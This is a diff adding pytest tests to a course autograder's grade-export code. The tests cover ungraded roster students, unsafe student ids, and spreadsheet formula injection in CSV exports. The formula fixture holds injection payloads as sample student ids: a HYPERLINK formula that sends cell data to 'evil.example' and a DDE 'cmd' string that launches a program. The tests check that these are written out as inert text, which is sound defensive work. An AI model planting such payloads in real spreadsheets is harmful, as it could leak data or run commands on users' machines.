@@ -8,6 +8,7 @@ submissions, one with a Korean name.
 from __future__ import annotations
 
 import csv
+import re
 import shutil
 import subprocess
 import sys
@@ -16,7 +17,8 @@ from pathlib import Path
 
 import pytest
 
-from autograder.assignments import COURSE_ID
+from autograder.assignments import COURSE_ID, REPO_ROOT
+from autograder.course import samples
 from autograder.course.cli import main
 from autograder.course.directory import Course, tool_environment
 from autograder.course.export import (
@@ -26,6 +28,7 @@ from autograder.course.export import (
     RosterError,
     export_for,
 )
+from autograder.course.spreadsheet import from_cell
 
 ASSIGNMENTS = {"01_first": {"c1": 5.0, "c2": 2.5}, "02_second": {"c1": 4.0}}
 STUDENTS = {  # id: (last, first)
@@ -89,6 +92,7 @@ def built_gradebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def course(built_gradebook: Path, tmp_path: Path) -> Course:
     """A course directory holding a copy of the gradebook and the roster."""
     shutil.copy(built_gradebook, tmp_path / "gradebook.db")
+    shutil.copy(REPO_ROOT / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
     write_roster(tmp_path / "roster.csv", ROSTER)
     return Course(tmp_path)
 
@@ -185,6 +189,44 @@ def test_each_platform_needs_its_identifier(course):
         export_for(course, "canvas", roster=course.root / "nowhere.csv")
 
 
+NEVER_GRADED = {
+    "student_id": "newcomer",
+    "name": "New, Comer",
+    "canvas_id": "105",
+    "email": "n@x.edu",
+}
+
+
+@pytest.mark.parametrize("platform", ["canvas", "moodle"])
+def test_a_roster_student_never_graded_is_exported_without_a_grade_and_named(course, platform):
+    """Who is in the roster but not the gradebook (never submitted anything) still has a
+    row, with the platform's mark for no grade, and a warning names them."""
+    write_roster(course.root / "roster.csv", [*ROSTER, NEVER_GRADED])
+    warned: list[str] = []
+    rows = read_rows(export_for(course, platform, warn=warned.append))
+    theirs = [r for r in rows if "105" in r or "n@x.edu" in r]
+    assert len(theirs) == 1 and theirs[0][-len(ASSIGNMENTS) :] == [""] * len(ASSIGNMENTS)
+    assert len(rows) == len(STUDENTS) + 1 + (2 if platform == "canvas" else 1)
+    assert len(warned) == 1 and "newcomer" in warned[0]
+
+
+def test_cnn_grader_export_prints_every_warning(course, capsys):
+    write_roster(course.root / "roster.csv", [*ROSTER, NEVER_GRADED])
+    assert main(["export", "--course", str(course.root), "--format", "moodle"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.strip() == str(course.root / "grades_moodle.csv")
+    assert "cnn-grader export: warning:" in captured.err and "newcomer" in captured.err
+
+
+@pytest.mark.parametrize("unsafe", ["<script>", "ana bell", "../up", "-dash", "x" * 65, "김"])
+def test_a_roster_student_with_an_unsafe_id_is_set_aside_with_a_line(course, unsafe):
+    write_roster(course.root / "roster.csv", [*ROSTER, {**NEVER_GRADED, "student_id": unsafe}])
+    warned: list[str] = []
+    rows = read_rows(export_for(course, "moodle", warn=warned.append))
+    assert len(rows) == 1 + len(STUDENTS) and not any("n@x.edu" in row for row in rows)
+    assert len(warned) == 1 and repr(unsafe) in warned[0] and "set aside" in warned[0]
+
+
 def test_a_roster_with_canvas_own_headers_and_narrowed_exports(course):
     """A roster made from Canvas's gradebook export; only some assignments and students."""
     canvas = [
@@ -250,3 +292,86 @@ def test_plain_nbgrader_export_uses_the_plugin(course):
     )
     assert result.returncode == 0, result.stderr[-2000:]
     assert read_rows(course.root / "grades_canvas.csv") == expected
+
+
+# Student ids and names a spreadsheet would run as formulas, were they written raw.
+FORMULA_STUDENTS = {
+    '=HYPERLINK("evil.example?"&A1,"grades")': ("=1+1", "@SUM(A1:A9)"),
+    "+1+cmd|' -C calc'!A0": ("\tTab", "\rReturn"),
+    "-2+3": ("'Quoted", "Plain"),
+}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formula_course(tmp_path: Path) -> Course:
+    """A course whose gradebook names students with formulas, graded on one assignment."""
+    from nbgrader.api import Gradebook
+
+    shutil.copy(REPO_ROOT / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
+    course = Course(tmp_path)
+    with Gradebook(course.gradebook_url, COURSE_ID) as gradebook:
+        gradebook.add_assignment("01_first")
+        gradebook.add_notebook("01_first", "01_first")
+        gradebook.add_grade_cell("c1", "01_first", "01_first", max_score=5.0, cell_type="code")
+        for student, (last, first) in FORMULA_STUDENTS.items():
+            gradebook.add_student(student, last_name=last, first_name=first)
+            with warnings.catch_warnings():
+                warnings.simplefilter("ignore")
+                gradebook.add_submission("01_first", student)
+            gradebook.find_grade("c1", "01_first", "01_first", student).auto_score = 4.0
+        gradebook.db.commit()
+    roster = [
+        {"student_id": s, "name": f"{first} {last}", "canvas_id": str(100 + i), "email": s}
+        for i, (s, (last, first)) in enumerate(FORMULA_STUDENTS.items())
+    ]
+    write_roster(tmp_path / "roster.csv", roster)
+    return course
+
+
+def formula_cells(path: Path) -> list[str]:
+    """The cells of a CSV file a spreadsheet would read as the start of a formula."""
+    return [
+        cell
+        for row in read_rows(path)
+        for cell in row
+        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
+    ]
+
+
+def test_every_export_shows_a_formula_as_text(formula_course, capsys):
+    root = ["--course", str(formula_course.root)]
+    assert main(["export", *root]) == 0
+    assert main(["export", *root, "--format", "canvas"]) == 0
+    assert main(["export", *root, "--format", "moodle"]) == 0
+    names = {f"{first} {last}".strip() for last, first in FORMULA_STUDENTS.values()}
+    for file, shown in [
+        ("grades.csv", set(FORMULA_STUDENTS)),
+        ("grades_canvas.csv", names),  # Canvas names a student by the roster's name and ids
+        ("grades_moodle.csv", set(FORMULA_STUDENTS)),  # the roster's email, here the id
+    ]:
+        path = formula_course.root / file
+        assert formula_cells(path) == [], file
+        written = {from_cell(cell) for row in read_rows(path) for cell in row}
+        assert shown <= written, file  # all there, and read back as they were
+
+
+def test_grading_times_and_similarity_show_a_formula_as_text(formula_course):
+    from autograder.course.grading import Outcome, read_times, record_times
+    from autograder.course.similarity import write_similarity
+
+    students = list(FORMULA_STUDENTS)
+    path = record_times(formula_course, [Outcome("01_first", s, True, 1.0) for s in students])
+    assert formula_cells(path) == []
+    assert sorted(row["student"] for row in read_times(formula_course)) == sorted(students)
+
+    course = Course.create(formula_course.root / "similar", ("03_one_hot",))
+    release = Path("assignments") / "03_one_hot"
+    shutil.copytree(REPO_ROOT / release, course.root / release)
+    for student in [*students, "ana", "ben"]:
+        course.submit(student, "03_one_hot", samples.submission("03_one_hot"))
+    _, pairs = write_similarity(course, "03_one_hot")
+    assert formula_cells(pairs) == []
+    # A folder named like a formula is no student id (autograder/course/students.py): it
+    # is set aside, never compared; ana and ben are the one pair.
+    assert [row[1:3] for row in read_rows(pairs)[1:]] == [["ana", "ben"]]
